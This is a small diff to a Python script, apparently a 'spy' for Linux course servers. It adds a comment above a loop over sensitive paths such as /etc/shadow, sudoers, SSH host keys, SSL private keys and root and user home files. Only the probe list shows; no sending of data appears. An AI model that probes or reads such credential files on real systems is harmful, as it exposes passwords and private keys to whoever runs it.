@@ -410,6 +410,8 @@ import glob
 import os
 import sys
 
+# Where any Linux course server keeps its secrets (shadow files, host keys, homes, root's
+# history): the usual places, not this machine's, so the spy probes the same on every machine.
 read = []
 for pattern in ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_*key",
                 "/etc/ssl/private/*", "/root/*", "/root/.*", "/home/*/*", "/home/*/.*"]:
